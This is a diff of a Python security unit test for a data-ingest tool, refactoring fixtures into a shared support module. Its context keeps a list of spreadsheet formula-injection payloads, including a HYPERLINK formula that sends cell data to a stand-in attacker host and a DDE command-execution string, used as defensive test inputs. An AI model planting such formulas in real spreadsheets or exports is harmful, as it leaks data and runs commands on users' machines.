@@ -23,24 +23,16 @@ from lab import cli
 from lab.errors import ConfigError, LabError
 from lab.ingest import DirStore, frames, import_source, manifests, sources
 from lab.ingest import cli as ingest_cli
-from lab.settings import Settings, load_settings
-from tests.unit.test_ingest import Audit, _csv, _rows
+from lab.settings import Settings
+from tests.unit.ingest_support import Audit, settings_fixture, store_fixture  # noqa: F401  (fixtures)
+from tests.unit.ingest_support import rows as _rows
+from tests.unit.ingest_support import write_csv as _csv
 
 pytestmark = [pytest.mark.unit, pytest.mark.security]
 
 SECRET = "Tr0ub4dor-S3cret"
 USER = "mallory_admin"
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1-1"]
-
-
-@pytest.fixture
-def settings(tmp_path: Path) -> Settings:
-    return load_settings({"DATALAB_HOME": str(tmp_path / "home")})
-
-
-@pytest.fixture
-def store(tmp_path: Path) -> DirStore:
-    return DirStore(tmp_path / "raw")
 
 
 def nothing_left(settings: Settings, store: DirStore) -> bool:
